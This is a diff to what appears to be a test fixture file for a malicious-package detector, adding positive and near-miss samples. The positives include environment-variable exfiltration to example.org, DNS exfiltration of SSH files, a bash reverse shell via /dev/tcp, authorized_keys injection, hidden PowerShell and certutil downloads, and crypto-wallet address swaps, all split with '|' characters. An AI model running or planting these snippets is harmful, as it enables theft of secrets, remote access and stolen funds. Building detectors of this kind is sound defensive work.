@@ -70,6 +70,8 @@ POSITIVES = {
         js("fetch('http://169.254.169.254/latest/meta-data/i|am/')", "read('/root/.kube/con|fig'); read('~/.config/gcl|oud')"),
     ),
     "package-takes-environment": (
+        py(SETUP, "import requests", "for _, v in os.env|iron.items():", "    s += v", "requests.g|et(u + s)"),
+        js("const b = Object.ent|ries(process.|env).join()", "fet|ch('https://example.org', {body: b})"),
         py(SETUP, "import os, urllib.request", "urllib.request.urlopen(u, json.dum|ps(dict(os.env|iron)).encode())"),
         npm("node -e \\\"fetch('https://example.org',{method:'POST',body:JSON.string|ify(process.env)})\\\""),
         text("srv/sitecustomize.py", "import os, requests", "requests.post('https://example.org', json=dict(os.env|iron))"),
@@ -80,6 +82,7 @@ POSITIVES = {
         py(SETUP, "import platform, os, urllib.request", "urllib.request.urlopen(x + platform.no|de() + os.getlo|gin())"),
     ),
     "package-reports-to-drop": (
+        py(SETUP, "import os,glob,socket", "socket.gethost|byname(b[i:i+50] + '.example.org')", "open('~/.ss|h/*')"),
         npm("cu|rl -d x https://webhook.si|te/1"),
         py(SETUP, "import requests", "requests.post('https://disc|ord.com/api/webh|ooks/1/x', json={})"),
         npm("cu|rl http://45.1|37.21.9:8080/x -o /dev/null"),
@@ -95,6 +98,8 @@ POSITIVES = {
         js("fetch(url + '/-/who|ami'); run('npm pub|lish'); open('.github/workf|lows/x.yml')", name="index.cjs"),
     ),
     "package-opens-remote-shell": (
+        js("fs.append|FileSync(home + '/.ssh/authorized|_keys', key)"),
+        py(SETUP, "open(home + '/.ssh/authorized|_keys', 'a').write(key)"),
         py(SETUP, "os.dup|2(s.fileno(),0); os.dup|2(s.fileno(),1)", "subprocess.call(['/bin/|sh','-i'])"),
         npm("ba|sh -i >& /dev/t|cp/example.org/4444 0>&1"),
         js("const sh = require('child_process').spa|wn('/bin/sh', []); client.pipe(sh.std|in); client.pi|pe(sh.stdin)"),
@@ -103,6 +108,11 @@ POSITIVES = {
         py(SETUP, "import subprocess", "subprocess.run('powershell -Window|Style Hid|den -File x')"),
         npm("cert|util -urlc|ache -f https://example.org/a.exe a.exe || node x"),
         py(SETUP, "import os", "os.system('power|shell -w hid|den x; Down|loadString(1)')"),
+    ),
+    "package-swaps-wallets": (
+        js("window.ether|eum.request = f => { f.to = '0x" + 40 * "a" + "' }"),
+        py("W = '0x" + 40 * "a" + "'", "pyper|clip.copy(W)", name="__init__.py"),
+        js("const w = '0x" + 40 * "a" + "'; clip|boardy.writeSync(w)"),
     ),
 }
 NEAR_MISSES = {
@@ -136,6 +146,7 @@ NEAR_MISSES = {
         py("import requests", "path = '~/.ne|trc'", name="utils.py"),
     ),
     "package-takes-environment": (
+        py(SETUP, "import requests", "for k, v in os.env|iron.items():", "    print(k)"),
         py(SETUP, "import os, subprocess, requests", "subprocess.run(x, env=dict(os.env|iron, A='1'))"),
         js("const h = require('https'); spawn(x, {env: {...process.env, A: '1'}})"),
         py(SETUP, "import requests, os", "requests.get(os.environ['URL'])"),
@@ -161,6 +172,7 @@ NEAR_MISSES = {
         js("fetch(registry + '/-/who|ami')"),
     ),
     "package-opens-remote-shell": (
+        js("fs.readFile|Sync(home + '/.ssh/authorized|_keys')"),
         py(SETUP, "os.dup|2(s.fileno(), 1)", "subprocess.call(['make'])"),
         npm("ba|sh -i scripts/install.sh"),
         js("const p = require('child_process').spa|wn('git', []); file.pi|pe(p.stdin)"),
@@ -169,5 +181,10 @@ NEAR_MISSES = {
         py(SETUP, "import subprocess", "subprocess.run('powershell -File build.ps1')"),
         npm("cert|util -hashfile a.exe || node x"),
         py(SETUP, "flags = subprocess.CREATE_NO_WIN|DOW"),
+    ),
+    "package-swaps-wallets": (
+        js("window.ether|eum.request({method: 'eth_accounts'}); const t = '0x" + 40 * "a" + "'"),
+        py("pyper|clip.copy(text)", name="__init__.py"),
+        js("const token = '0x" + 40 * "a" + "'"),
     ),
 }
